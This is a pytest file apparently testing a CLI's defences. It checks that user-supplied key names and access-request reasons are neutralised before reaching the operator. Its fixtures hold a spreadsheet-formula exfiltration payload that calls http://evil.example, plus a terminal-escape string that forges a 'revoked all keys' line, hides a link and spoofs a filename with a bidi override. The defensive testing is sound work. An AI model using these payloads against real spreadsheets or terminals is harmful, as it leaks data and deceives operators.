"""Text users typed reaches the operator inert: `keys usage-export` neutralises formulas like the
audit CSV, and `keys list` / `accounts requests` show terminal escapes instead of obeying them
(the real commands, on real SQLite stores)."""

from __future__ import annotations

import csv
import io
import unicodedata
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner

from dashboard.service import Space
from pipeline.cli import main

from .conftest import World

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
# erase the line, move up, print a forged line; then a hidden OSC 8 link; then a bidi override
ESCAPES = "\x1b[2K\x1b[1Arevoked all keys\x1b]8;;http://evil.example\x07here\x1b]8;;\x07 \u202egnp.exe\x9b"


def run(*args: str) -> str:
    r = CliRunner().invoke(main, list(args))
    assert r.exit_code == 0, r.output
    return r.stdout


@pytest.fixture
def keys_with_names(world: World) -> World:
    s = world.service
    s.create_org("staff:test", "ngo", "Health NGO", "ann@ngo.example")
    for name in (FORMULA, "-2+3", "@SUM(A1)", ESCAPES):
        s.create_key("ann@ngo.example", Space("org", "ngo"), name, ["risk_scores"], "live", None, f"f-{name}",
                     verified_at=world.clock().isoformat())
    return world


def test_usage_export_neutralises_formulas_in_key_names(keys_with_names: World):
    month = datetime.now(UTC).strftime("%Y-%m")
    text = run("keys", "usage-export", "--keys", str(keys_with_names.keys_path), "--month", month)
    names = [row["name"] for row in csv.DictReader(io.StringIO(text))]
    assert "'" + FORMULA in names and "'-2+3" in names and "'@SUM(A1)" in names
    assert not any(n.startswith(("=", "+", "-", "@")) for n in names)


def test_keys_list_shows_escapes_and_never_sends_them(keys_with_names: World):
    out = run("keys", "list", "--keys", str(keys_with_names.keys_path))
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out and "\x9b" not in out
    assert "\\x1b[2K\\x1b[1Arevoked all keys" in out and "\\u202egnp.exe" in out
    assert all(len(line.split("\t")) == 9 for line in out.splitlines())  # the columns stay the columns


def test_access_request_reasons_show_escapes_and_never_send_them(world: World):
    s = world.service
    s.store.ensure_account("ada@uni.example", world.clock().isoformat())
    s.request_access("ada@uni.example", "Malaria study " + ESCAPES)
    out = run("accounts", "requests", "--keys", str(world.keys_path))
    assert "\x1b" not in out and "\u202e" not in out
    assert "Malaria study \\x1b[2K" in out


def test_every_control_and_format_character_is_escaped():
    from dashboard.operator_text import terminal_safe

    unsafe = [chr(i) for i in range(0x110000) if unicodedata.category(chr(i)) in ("Cc", "Cf")]
    shown = terminal_safe("".join(unsafe))
    assert not any(unicodedata.category(c) in ("Cc", "Cf") for c in shown)
    assert terminal_safe("Ọ̀yọ́ state, Kano — 100 %") == "Ọ̀yọ́ state, Kano — 100 %"  # letters pass untouched


def test_the_audit_csv_goes_through_the_same_writer():
    """One writer: the dashboard's audit export has no CSV code of its own."""
    app = Path(__file__).resolve().parents[2] / "dashboard" / "app.py"
    assert "csv.writer" not in app.read_text() and "csv_text(" in app.read_text()
